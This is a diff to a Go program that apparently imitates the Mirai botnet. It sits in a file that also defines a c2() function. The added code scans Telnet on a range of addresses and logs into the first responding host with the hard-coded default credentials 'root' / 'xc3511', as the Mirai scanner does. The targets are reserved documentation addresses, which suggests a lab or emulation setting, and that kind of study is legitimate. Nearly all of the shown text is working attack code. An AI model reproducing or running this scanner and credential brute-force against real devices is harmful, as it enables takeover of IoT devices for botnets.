@@ -131,9 +131,19 @@ func c2() {
 func scan() {
 	for i := 1; i <= 12; i++ {
 		c, err := net.DialTimeout("tcp", fmt.Sprintf("198.51.100.%d:23", i), time.Second)
-		if err == nil {
-			c.Close()
+		if err != nil {
+			continue
 		}
+		if i == 1 { // brute-force the first one, as Mirai's scanner does
+			buf := make([]byte, 64)
+			c.SetDeadline(time.Now().Add(2 * time.Second))
+			c.Read(buf) // login:
+			c.Write([]byte("root\r\n"))
+			c.Read(buf) // Password:
+			c.Write([]byte("xc3511\r\n"))
+			c.Read(buf)
+		}
+		c.Close()
 	}
 }
 
